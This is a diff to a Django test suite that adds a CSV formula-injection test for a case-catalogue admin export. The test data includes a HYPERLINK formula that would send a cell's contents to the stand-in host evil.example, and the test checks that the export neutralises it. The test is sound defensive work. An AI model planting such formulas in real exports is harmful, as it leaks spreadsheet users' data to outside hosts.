@@ -11,7 +11,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
 
 from cases import imports
-from cases.models import Contributor, Impact, Innovation, Institution, Suggestion
+from cases.models import Contributor, Impact, Innovation, Institution, Suggestion, Theme
 
 from .conftest import row_slugs
 
@@ -306,3 +306,47 @@ def test_suggested_case_slugs_never_collide(client):
         Innovation.objects.filter(title="Design thinking").values_list("slug", flat=True)
     )
     assert slugs == ["design-thinking-2", "design-thinking-3"]
+
+
+# Cells a spreadsheet would run -------------------------------------------------------------
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "summary": "=1+1",
+    "impact": "@SUM(1)",
+}
+
+
+def exported_cells(editor, slugs):
+    response = editor.post(
+        "/admin/cases/innovation/",
+        {
+            "action": "export_csv",
+            "_selected_action": list(
+                Innovation.objects.filter(slug__in=slugs).values_list("pk", flat=True)
+            ),
+        },
+    )
+    return response.content, list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_a_suggestion_with_formulas_is_exported_as_text_and_imports_back_unchanged(client, editor):
+    assert client.post("/suggest/", suggestion(**HOSTILE)).status_code == 302
+    case = Innovation.objects.get(summary="=1+1")
+    case.themes.add(Theme.objects.get(slug="leadership"))  # an import needs one
+    case.impacts.create(statement="+31 more offices", position=2)
+    case.impacts.create(statement="'=already quoted", position=3)
+    content, [row] = exported_cells(editor, [case.slug])
+    assert row["title"] == "'" + HOSTILE["title"]
+    assert row["summary"] == "'=1+1"
+    assert (row["impact_1"], row["impact_2"]) == ("'@SUM(1)", "'+31 more offices")
+    assert row["impact_3"] == "''=already quoted"
+    for cell in row.values():
+        assert not cell or cell[0] not in "=+-@\t\r"
+
+    before = catalogue_state()
+    response = upload(editor, SimpleUploadedFile("export.csv", content))
+    assert "no change" in response.content.decode()
+    assert confirm(editor, response).status_code == 302
+    assert catalogue_state() == before
+    assert Innovation.objects.get(pk=case.pk).title == HOSTILE["title"]
